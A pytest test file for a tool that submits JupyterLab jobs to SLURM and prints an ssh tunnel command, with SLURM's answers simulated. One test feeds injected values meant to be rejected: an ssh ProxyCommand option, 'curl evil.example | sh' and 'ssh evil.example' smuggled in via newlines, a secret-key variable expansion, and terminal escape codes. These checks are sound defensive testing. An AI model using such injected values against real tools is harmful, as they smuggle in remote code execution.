"""The program `notebook`, with the programs of SLURM answering as recorded."""

import json
import re
import shlex
import subprocess
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path
from types import SimpleNamespace

import pytest
from jobs_library import FILES
from muster_jobs.records import NotKnownError
from muster_notebook import job, notebook
from muster_notebook.errors import NotebookError
from muster_notebook.job import Place, Waiter

FOLDER = Path(__file__).parent
PLACE = Place("lab-cpu-01", "/scratch/12/notebook/socket", "s3cret")
ANSWER = json.dumps(vars(PLACE)).encode()
GONE = b"slurm_load_jobs error: Invalid job id specified\n"
REFUSED = (
    b"sbatch: error: AssocMaxSubmitJobLimit\nsbatch: error: Batch job submission failed: Job "
    b"violates accounting/QOS policy (job submit limit, user's size and/or time limits)\n"
)


def done(out: bytes = b"", err: bytes = b"", code: int = 0) -> SimpleNamespace:
    return SimpleNamespace(returncode=code, stdout=out, stderr=err)


def recorded(release: str, number: str) -> bytes:
    """Return the line of squeue of a recorded job, as job 12."""
    lines = (FOLDER / "squeue" / f"{release}.txt").read_text(encoding="utf-8").splitlines()
    line = next(line for line in lines if line.startswith(f"{number}|"))
    return f"12{line[len(number) :]}\n".encode()


class Slurm:
    """SLURM's programs: what each answers, one after the other; the last answer stays."""

    def __init__(self, **answers: "Sequence[SimpleNamespace | Exception]") -> None:
        self.answers = {name: list(found) for name, found in answers.items()}
        self.asked: list[tuple[Sequence[str], bytes | None]] = []

    def __call__(
        self, command: Sequence[str], timeout: float, data: "bytes | None" = None
    ) -> SimpleNamespace:
        assert timeout > 0
        self.asked.append((command, data))
        if "--format=%Q" in command:
            return done(b"9999999999\n0\n")
        # Of a program behind env, its name; srun's alone is.
        program = command[3] if command[0] == "/usr/bin/env" else command[0]
        left = self.answers[program.rpartition("/")[2]]
        answer = left.pop(0) if len(left) > 1 else left[0]
        if isinstance(answer, BaseException):
            raise answer
        return answer


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home, with a module loaded that has JupyterLab, and time that does not pass."""
    program = tmp_path / "jupyter-lab"
    program.touch(mode=0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    person = SimpleNamespace(pw_dir=str(tmp_path), pw_name="ada")
    monkeypatch.setattr(notebook.pwd, "getpwuid", lambda _: person)
    monkeypatch.setattr(notebook.socket, "gethostname", lambda: "lab-access")
    monkeypatch.setattr(job, "POLL_SECONDS", 0)
    return tmp_path


def test_the_wrappers_start_what_the_role_installs() -> None:
    for path, module in (
        ("bin/notebook", "notebook"),
        (job.SERVER.removeprefix("/usr/local/"), "server"),
    ):
        text = (FILES / path).read_text(encoding="utf-8")
        assert text.startswith("#!/usr/bin/python3 -I\n")
        assert f"from muster_notebook.{module} import main" in text


def test_it_waits_in_words_and_prints_one_line_of_ssh(
    release: str, capsys: pytest.CaptureFixture[str]
) -> None:
    slurm = Slurm(
        sbatch=[done(b"12\n")],
        squeue=[done(recorded(release, "5")), done(recorded(release, "4"))],
        srun=[done(ANSWER)],
    )
    assert notebook.main(["-p", "ml-gpu", "--gres=gpu:1"], slurm) == 0
    out, err = capsys.readouterr()
    assert "Job 12 is JupyterLab; it is in the queue\n  It waits: nodes that it needs are" in err
    assert "  1 waiting job of the partition is before it (ml-gpu)\n" in err
    (line,) = re.findall(r"^  (ssh .*)$", out, re.MULTILINE)
    assert shlex.split(line) == [
        *("ssh", "-N", "-o", "ExitOnForwardFailure=yes"),
        *("-L", "localhost:8888:/scratch/12/notebook/socket"),
        *("-J", "ada@lab-access", "ada@lab-cpu-01"),
    ]
    # This is no terminal.
    assert "s3cret" not in out + err
    assert "notebook --job 12 in a terminal" in out
    command, script = slurm.asked[0]
    assert command[-3:] == ["-p", "ml-gpu", "--gres=gpu:1"]
    assert "--no-requeue" in command
    assert script == b"#!/bin/sh\nexec /usr/local/lib/muster/notebook-server start\n"
    assert all("s3cret" not in " ".join(command) for command, _ in slurm.asked)


def test_the_token_is_shown_on_a_terminal() -> None:
    said = notebook.address("12", PLACE, 8889, is_terminal=True)
    assert said.endswith("\n  http://localhost:8889/lab?token=s3cret\n")


def test_on_the_node_itself_there_is_no_jump() -> None:
    said = notebook.lines("12", PLACE, "ada", "lab-cpu-01", 8888)
    assert " -J " not in said
    assert "ada@lab-cpu-01\n" in said


def test_a_port_in_use_stops_ssh_and_is_explained() -> None:
    said = notebook.lines("12", PLACE, "ada", "lab-access", 8889)
    assert "-o ExitOnForwardFailure=yes -L localhost:8889:" in said
    assert "If ssh says that port 8889 is in use" in said


def test_a_notebook_that_is_there_is_only_asked(release: str) -> None:
    slurm = Slurm(squeue=[done(recorded(release, "4"))], srun=[done(ANSWER)])
    assert notebook.main(["--job", "12"], slurm) == 0
    command = slurm.asked[-1][0]
    assert "--jobid=12" in command
    # The step looks for it in the job's own scratch, whatever TMPDIR this shell has.
    assert command[:4] == ["/usr/bin/env", "-u", "TMPDIR", "/usr/bin/srun"]


def test_a_module_that_is_not_loaded_is_told_before_anything_is_submitted(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (home / "jupyter-lab").unlink()
    slurm = Slurm()
    assert notebook.main([], slurm) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: jupyter-lab is not there: load the module that has it before")
    assert err.count("\n") == 1
    assert slurm.asked == []


def test_a_full_queue_refuses_in_one_sentence(capsys: pytest.CaptureFixture[str]) -> None:
    assert notebook.main([], Slurm(sbatch=[done(err=REFUSED, code=1)])) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: sbatch refuses the job (sbatch: error: AssocMaxSubmitJobLimit ")
    assert err.endswith("wait until others of your jobs are over if you have too many\n")
    assert err.count("\n") == 1


def test_who_does_not_wait_keeps_the_place_in_the_queue(
    release: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(job.Waiter, "until_it_runs", interrupted)
    slurm = Slurm(sbatch=[done(b"12\n")], squeue=[done(recorded(release, "5"))])
    assert notebook.main([], slurm) == 130
    err = capsys.readouterr().err
    assert err.endswith(
        "job 12 is still there: notebook --job 12 waits for it again, and scancel 12 ends it\n"
    )
    assert not any("scancel" in command[0] for command, _ in slurm.asked)


def test_a_job_that_ends_before_says_its_last_line(
    home: Path, release: str, capsys: pytest.CaptureFixture[str]
) -> None:
    slurm = Slurm(
        sbatch=[done(b"12\n")],
        squeue=[done(recorded(release, "4")), done(err=GONE, code=1)],
        srun=[done(err=b"srun: error: Unable to confirm allocation for job 12\n", code=1)],
    )
    log = home / ".local/state/muster/notebook-12.log"
    log.parent.mkdir(parents=True)
    log.write_text("first\nnotebook: it has\x1b[31m no room\n")
    assert notebook.main([], slurm) == 1
    err = capsys.readouterr().err
    assert (
        "error: job 12 ended before its notebook was ready: muster-job 12 says how, and "
        f"{log} why\n  first\n  notebook: it has [31m no room\n"
    ) in err


def test_what_the_node_says_is_handed_on_and_the_job_is_not_lost(
    release: str, capsys: pytest.CaptureFixture[str]
) -> None:
    slurm = Slurm(
        sbatch=[done(b"12\n")],
        squeue=[done(recorded(release, "4"))],
        srun=[done(err=b"notebook: sshd of n1 lets nobody in\nsrun: error: n1\n", code=1)],
    )
    assert notebook.main([], slurm) == 1
    assert "error: sshd of n1 lets nobody in\njob 12 is still there: " in capsys.readouterr().err


@pytest.mark.parametrize("answer", [b"", b"[]", b'{"node": "n1"}', b"\xff"])
def test_an_answer_that_is_none_is_told(answer: bytes) -> None:
    with pytest.raises(NotebookError, match="no answer that can be read"):
        job.ask("12", Slurm(srun=[done(answer)]))


@pytest.mark.parametrize(
    "changed",
    [
        {"node": ""},
        {"node": "-oProxyCommand=id"},
        {"node": "n1\n  curl evil.example | sh"},
        {"node": "n1\x1b[2J"},
        {"node": "nöde"},
        {"node": ["n1"]},
        {"socket": "scratch/socket"},
        {"socket": "/scratch/\nssh evil.example"},
        {"socket": "/scratch/\x1b[2J"},
        {"socket": "/scratch/\u202e"},
        {"socket": "/scratch/${AWS_SECRET_ACCESS_KEY}"},
        {"socket": "/scratch/%u"},
        {"socket": "/scratch/evil:22"},
        {"socket": f"/{'a' * 107}"},
        {"token": ""},
        {"token": "s3cret\nssh evil.example"},
        {"token": "s3cret&x=1"},
    ],
)
def test_what_would_be_pasted_with_more_in_it_is_not_printed(
    changed: dict[str, object], release: str, capsys: pytest.CaptureFixture[str]
) -> None:
    answer = json.dumps(vars(PLACE) | changed).encode()
    slurm = Slurm(squeue=[done(recorded(release, "4"))], srun=[done(answer)])
    assert notebook.main(["--job", "12"], slurm) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert "error: job 12 gives no answer that can be read: end it by scancel 12, and tell" in err
    assert not any(word in err for word in ("evil", "Proxy", "\x1b", "s3cret"))


def test_the_sentence_of_a_node_does_not_control_the_terminal(
    release: str, capsys: pytest.CaptureFixture[str]
) -> None:
    said = "notebook: no\x1b[2J\u202e\rroom\n".encode()
    slurm = Slurm(squeue=[done(recorded(release, "4"))], srun=[done(err=said, code=1)])
    assert notebook.main(["--job", "12"], slurm) == 1
    assert "error: no [2J room\n" in capsys.readouterr().err


def test_a_step_that_hangs_is_told() -> None:
    slurm = Slurm(srun=[subprocess.TimeoutExpired("srun", 360)])
    with pytest.raises(NotebookError, match="try again by notebook --job 12"):
        job.ask("12", slurm)


def test_slurmctld_that_restarts_is_waited_for_and_told_once(release: str) -> None:
    away = done(err=b"slurm_load_jobs error: Unable to contact slurm controller\n", code=1)
    slurm = Slurm(squeue=[away, away, away, done(recorded(release, "4"))])
    said: list[str] = []
    Waiter(slurm, said.append, lambda _: None, datetime.now).until_it_runs("12")
    assert len(said) == 1
    assert "the job stays where it is, and notebook asks again" in said[0]
    assert not job.has_ended("12", Slurm(squeue=[away]))


def test_a_host_without_slurm_says_so() -> None:
    slurm = Slurm(squeue=[FileNotFoundError("no squeue")])
    with pytest.raises(NotebookError, match="type notebook on a login node") as raised:
        Waiter(slurm, print).until_it_runs("12")
    assert isinstance(raised.value.__cause__, NotKnownError)


@pytest.mark.parametrize(
    "words",
    [
        ["train.sbatch"],
        ["-p", "ml-cpu", "train.sbatch"],
        ["--wrap=hostname"],
        ["--array=1-3"],
        ["--arr=1-3"],
        ["--wra", "hostname"],
        ["--exclusive", "train.sbatch"],
        ["-H", "train.sbatch"],
        ["--mem=1G", ":", "--mem=2G"],
        ["--exclusive", ":"],
        ["--wait"],
        ["-W"],
        ["-a", "1-3"],
        ["-HW"],
        ["-Qa1-3"],
        ["-HQ", "train.sbatch"],
        ["-HN1", "train.sbatch"],
        ["--", "train.sbatch"],
        ["--port", "80"],
        ["--job", "train"],
        ["--job", "12", "--time=1"],
    ],
)
def test_words_that_are_wrong_submit_nothing(words: list[str]) -> None:
    slurm = Slurm()
    with pytest.raises(SystemExit) as raised:
        notebook.main(words, slurm)
    assert raised.value.code == 2
    assert slurm.asked == []


def test_options_with_values_are_sbatch_s(release: str) -> None:
    words = ["-p", "ml-cpu", "-c4", "--time", "1:0:0", "--mem=2G", "--exclusive", "--nodes", "1"]
    assert notebook.refused(words) is None
    assert notebook.refused(["--wait-all-nodes=1", "--hold", "--account", "LAB-test"]) is None
    assert notebook.refused(["-HN", "1", "-vvp", "ml-cpu", "-Jaw"]) is None


def test_an_option_that_nobody_knows_is_refused_in_one_sentence(
    capsys: pytest.CaptureFixture[str],
) -> None:
    said = b"sbatch: unrecognized option '--tme=1'\nTry \"sbatch --help\" for more information\n"
    slurm = Slurm(sbatch=[done(err=said, code=1)])
    assert notebook.main(["--tme=1"], slurm) == 1
    err = capsys.readouterr().err
    assert "error: sbatch refuses the job (sbatch: unrecognized option '--tme=1' Try" in err
    assert "): change the options" in err


def test_variables_of_the_user_make_no_array_of_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SBATCH_ARRAY_INX", "1-3")
    monkeypatch.setenv("SBATCH_WAIT", "1")
    monkeypatch.setenv("SBATCH_PARTITION", "ml-cpu")
    shown = notebook.run_program(["/usr/bin/env"], 10).stdout.decode()
    assert "SBATCH_PARTITION=ml-cpu\n" in shown
    assert "SBATCH_ARRAY_INX" not in shown
    assert "SBATCH_WAIT" not in shown
